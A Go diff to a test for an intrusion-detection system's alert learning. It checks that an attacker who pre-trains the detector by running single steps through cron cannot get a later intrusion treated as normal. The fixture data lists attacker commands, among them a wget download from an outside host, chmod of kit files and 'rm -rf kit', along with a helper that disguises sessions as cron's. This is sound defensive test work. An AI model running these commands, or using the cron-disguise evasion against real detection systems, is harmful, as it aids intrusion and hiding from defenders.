@@ -233,55 +233,80 @@ func TestLearn_Incident(t *testing.T) {
 	}
 }
 
-// TestLearn_Poisoned: an intruder who has cron do his single steps for days, so that they are known, hides nothing of the intrusion: it is one incident, as bad as it is without. The
-// intrusion itself isn't learned if its sessions say that they are cron's and its files have hashes, however often it comes.
+// TestLearn_Poisoned: an intruder who has cron do his single steps for days, so that they are known, hides nothing of the intrusion: it is one incident, of as many alerts as without. If its own
+// sessions say that they are cron's, and its files have hashes, it isn't learned however often it comes.
 func TestLearn_Poisoned(t *testing.T) {
 	t.Parallel()
-	steps := [][]string{{"wget", "http://nasapaul.com/x"}, {"lspci"}, {"chmod", "+x", "1", "a", "all", "pass", "port", "sshd", "x"}, {"rm", "-rf", "kit"}}
 	plain := correlating(t, newStore(t))
 	for i, packed := range intrusion(t, 40) {
 		plain.take(i+1, packed)
 	}
 	want := plain.whole()
-	r := correlating(t, newStore(t))
-	r.days(2*LearnDays, 1, "", func(d int) []job { return []job{{script: "/opt/a.sh", hash: 1, does: steps[d%2 : d%2+2]}} })
-	seq := 2 * LearnDays
-	for round := range LearnDays + 2 {
-		for _, packed := range intrusion(t, 40) {
-			b, err := batch.Decode(packed)
-			if err != nil {
-				t.Fatal(err)
+	if len(want) != 1 {
+		t.Fatalf("%d incidents", len(want))
+	}
+	began := time.Date(2018, 11, 20, 1, 0, 0, 0, time.UTC)
+	for _, c := range []struct {
+		name   string
+		cron   bool
+		rounds int
+		least  int
+	}{
+		{"in sessions of its own", false, 1, len(want[0].Members)},
+		{"by cron, again and again", true, LearnDays + 2, 20}, // what asks about the host all day is expected of cron
+	} {
+		r := correlating(t, newStore(t))
+		steps := [][]string{{"wget", "http://nasapaul.com/x"}, {"lspci"}, {"chmod", "+x", "1", "a", "all", "pass", "port", "sshd", "x"}, {"rm", "-rf", "kit"}}
+		r.days(2*LearnDays, 1, "", func(d int) []job { return []job{{script: "/opt/a.sh", hash: 1, does: steps[d%3 : d%3+2]}} })
+		lowered := 0
+		for _, a := range r.alerts() {
+			if a.Lowered != "" {
+				lowered++
 			}
-			var all []activity.Event
-			begun := map[uint32]bool{}
-			for _, e := range b.Events {
-				if n := e.Process.Session; n != linuxaudit.Unset && n != 0 && !begun[n] {
-					begun[n] = true
-					all = append(all, activity.Event{Kind: activity.Session, Began: true, Success: true, Millis: e.Millis, Process: activity.Process{PID: 5, Session: n, Image: []byte("/usr/sbin/cron")}})
-				}
-				if e.Kind == activity.Exec {
-					e.Command.SHA256 = bytes.Repeat([]byte{9}, 32)
-				}
-				e.Millis += int64(round) * day.Milliseconds()
-				all = append(all, e)
+		}
+		seq := 2 * LearnDays
+		for range c.rounds {
+			for _, packed := range intrusion(t, 40) {
+				seq++
+				r.take(seq, disguised(t, packed, r.clock.Now().Sub(began), c.cron))
 			}
-			seq++
-			r.take(seq, pack(t, all))
+			r.clock.Advance(day)
 		}
-		r.clock.Advance(day)
-	}
-	worst := 0
-	for _, in := range r.whole() {
-		if in.Severity == alerts.High && len(in.Members) >= len(want[0].Members)-2 {
-			worst++
+		in := r.whole()
+		if len(in) != 1 || in[0].Severity != alerts.High || len(in[0].Members) < c.least {
+			t.Errorf("%s: %d incidents", c.name, len(in))
+			for _, x := range in {
+				t.Errorf("%s, %d members, want %d: %s", x.Severity, len(x.Members), c.least, x.Intent)
+			}
 		}
-	}
-	if worst == 0 {
-		t.Errorf("no incident of about %d alerts", len(want[0].Members))
-	}
-	for _, a := range r.alerts() {
-		if a.Lowered != "" && a.Incident != "" {
-			t.Errorf("%s is lowered and in an incident", a.DisplayName)
+		for _, a := range r.alerts() {
+			if a.Lowered != "" && a.Incident != "" {
+				t.Errorf("%s: %s is lowered and in an incident", c.name, a.DisplayName)
+			}
 		}
+		t.Logf("%s: %d alerts of the steps had been lowered", c.name, lowered)
 	}
+}
+
+// disguised is a batch at another time, in sessions of which the first event says that cron began them, of files that all have a hash.
+func disguised(t *testing.T, packed []byte, later time.Duration, cron bool) []byte {
+	t.Helper()
+	b, err := batch.Decode(packed)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var all []activity.Event
+	begun := map[uint32]bool{}
+	for _, e := range b.Events {
+		e.Millis += later.Milliseconds()
+		if n := e.Process.Session; cron && n != linuxaudit.Unset && n != 0 && !begun[n] {
+			begun[n] = true
+			all = append(all, activity.Event{Kind: activity.Session, Began: true, Success: true, Millis: e.Millis, Process: activity.Process{PID: 5, Session: n, Image: []byte("/usr/sbin/cron")}})
+		}
+		if e.Kind == activity.Exec {
+			e.Command.SHA256 = bytes.Repeat([]byte{9}, 32)
+		}
+		all = append(all, e)
+	}
+	return pack(t, all)
 }
